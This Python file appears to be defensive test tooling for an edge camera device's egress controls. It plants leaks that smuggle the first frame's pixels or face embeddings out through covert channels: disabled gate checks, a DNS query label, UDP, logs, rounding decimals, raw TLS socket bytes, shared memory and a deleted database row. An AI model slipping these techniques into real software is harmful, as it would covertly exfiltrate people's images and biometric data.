"""Leaks that are planted into the device's process, one a run: started in place of the launcher, never imported.

Each takes real pixels or a real embedding out of the running pipeline and tries one way out of the process.
"""

from __future__ import annotations

import base64
import logging
import mmap
import os
import runpy
import socket
import subprocess
import sys
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import cv2
import msgspec
import numpy as np

import edge.device
import edge.publish.egress
import edge.publish.message
import edge.publish.mqtt
import edge.publish.session
from edge.affect.backbone import Backbone
from edge.publish.durable import DurableOutbox
from edge.publish.session import BrokerSession
from edge.values import Message

SHARED = Path("/dev/shm/affect-edge-planted-leak")


def at_first_frame(leak: Callable[[Any], None]) -> None:
    """Calls a leak with the pixels of the first frame, uint8 (H, W, 3)."""
    done: list[bool] = []
    step = edge.device.Pipeline.step

    def leaking(pipeline: Any, frame: Any) -> Any:
        if not done:
            done.append(True)
            leak(frame.pixels)
        return step(pipeline, frame)

    edge.device.Pipeline.step = leaking


def jpeg(pixels: Any) -> bytes:
    return cv2.imencode(".jpg", cv2.resize(pixels, (64, 48)))[1].tobytes()


def crop_to_file() -> None:
    align = edge.device.align_face

    def leaking(*values: Any) -> Any:
        crop = align(*values)
        Path("crop.raw").write_bytes(crop.tobytes())
        return crop

    edge.device.align_face = leaking


def embedding_to_file() -> None:
    embed_all = Backbone.embed_all

    def leaking(self: Any, crops: Any) -> Any:
        embeddings = embed_all(self, crops)
        if embeddings:
            np.save("embedding.npy", embeddings[0].vector)
        return embeddings

    Backbone.embed_all = leaking


def embedding_in_payload() -> None:
    """As an extra field, past the gate."""
    vectors: list[list[float]] = []
    embed_all, make = Backbone.embed_all, edge.publish.mqtt.window_message

    def embedding(self: Any, crops: Any) -> Any:
        found = embed_all(self, crops)
        vectors.extend(each.vector[:16].tolist() for each in found)
        return found

    def message(*values: Any, **named: Any) -> Message:
        made = make(*values, **named)
        fields = msgspec.json.decode(made.payload) | {"embedding": vectors[-1]}
        return replace(made, payload=msgspec.json.encode(fields))

    Backbone.embed_all, edge.publish.mqtt.window_message = embedding, message
    edge.publish.egress.Gate.check = lambda *_: None


def jpeg_over_mqtt() -> None:
    """As a message's payload, past the gate."""
    pictures: list[bytes] = []
    at_first_frame(lambda pixels: pictures.append(jpeg(pixels)))
    make = edge.publish.mqtt.window_message
    edge.publish.mqtt.window_message = lambda *values, **named: replace(make(*values, **named), payload=pictures[0])
    edge.publish.egress.Gate.check = lambda *_: None


def thumbnail_in_model_name() -> None:
    """Four by four grey pixels as the 32 characters that a model's name may have: the gate lets it pass."""
    names: list[str] = []
    at_first_frame(lambda pixels: names.append(cv2.resize(pixels[..., 1], (4, 4)).tobytes().hex()))
    make = edge.publish.mqtt.window_message

    def leaking(window: Any, **named: Any) -> Message:
        model = msgspec.structs.replace(window.model, name=names[0])
        return make(msgspec.structs.replace(window, model=model), **named)

    edge.publish.mqtt.window_message = leaking


def pixels_in_decimals() -> None:
    """A pixel in the decimals behind the rounding: the gate lets it pass."""
    pixels: list[int] = []
    at_first_frame(lambda frame: pixels.append(int(frame[100, 100, 0])))
    rounded = edge.publish.message.rounded
    edge.publish.message.rounded = lambda value, digits: rounded(value, digits) + (pixels[0] if pixels else 0) * 1e-6


def pixels_in_log() -> None:
    """In the place of a text of a line that the device has."""

    def leak(pixels: Any) -> None:
        text = base64.b64encode(jpeg(pixels)).decode()
        logging.getLogger("edge.publish.journal").info("%s: connected", text)

    at_first_frame(leak)


def picture_to_stdout() -> None:
    at_first_frame(lambda pixels: os.write(1, jpeg(pixels)))


def dns_label() -> None:
    """A question for a name whose first label is pixels."""

    def leak(pixels: Any) -> None:
        label = pixels[:1, :5].tobytes().hex()[:60].encode()
        name = b"".join(bytes([len(part)]) + part for part in (label, b"example", b"org")) + b"\0"
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
            out.sendto(b"\0\1\1\0\0\1\0\0\0\0\0\0" + name + b"\0\1\0\1", ("127.0.0.1", 53))

    at_first_frame(leak)


def udp_packet() -> None:
    def leak(pixels: Any) -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
            out.sendto(jpeg(pixels), ("127.0.0.1", 9))

    at_first_frame(leak)


def shared_memory() -> None:
    """Written through a mapping: no system call ever has the bytes."""

    def leak(pixels: Any) -> None:
        data = pixels.tobytes()
        with SHARED.open("w+b") as file:
            os.ftruncate(file.fileno(), len(data))
            with mmap.mmap(file.fileno(), len(data)) as memory:
                memory[:] = data

    at_first_frame(leak)


def _after_first_send(leak: Callable[[Any, bytes], None]) -> None:
    pictures: list[bytes] = []
    at_first_frame(lambda pixels: pictures.append(jpeg(pixels)))
    send = BrokerSession.send

    def leaking(session: Any, message: Message) -> int:
        number = send(session, message)
        if pictures:
            leak(session._client.socket(), pictures.pop())
        return number

    BrokerSession.send = leaking


def extra_bytes_above_tls() -> None:
    """Encrypted, but no MQTT packet."""
    _after_first_send(lambda connection, data: connection.send(data))


def extra_bytes_below_tls() -> None:
    """On the same connection, but not encrypted by it."""
    _after_first_send(lambda connection, data: os.write(connection.fileno(), data))


def row_in_outbox() -> None:
    """Written and deleted again: the final database does not show it."""
    pictures: list[bytes] = []
    at_first_frame(lambda pixels: pictures.append(jpeg(pixels)))
    insert = DurableOutbox.insert

    def leaking(outbox: Any, *values: Any) -> Any:
        place = (10**9, pictures[0], b"\0" * 16)
        outbox._database.execute("INSERT INTO windows (seq, payload, digest) VALUES (?, ?, ?)", place)
        outbox._database.execute("DELETE FROM windows WHERE seq = ?", (10**9,))
        return insert(outbox, *values)

    DurableOutbox.insert = leaking


def child_process() -> None:
    def leak(pixels: Any) -> None:
        subprocess.run(["/bin/true", pixels[:1, :8].tobytes().hex()], check=False)

    at_first_frame(leak)


if __name__ == "__main__":
    {name: leak for name, leak in globals().items() if callable(leak)}[os.environ["EGRESS_LEAK"]]()
    runpy.run_path(os.environ["EGRESS_LAUNCHER"], run_name="__main__")
    sys.exit(0)
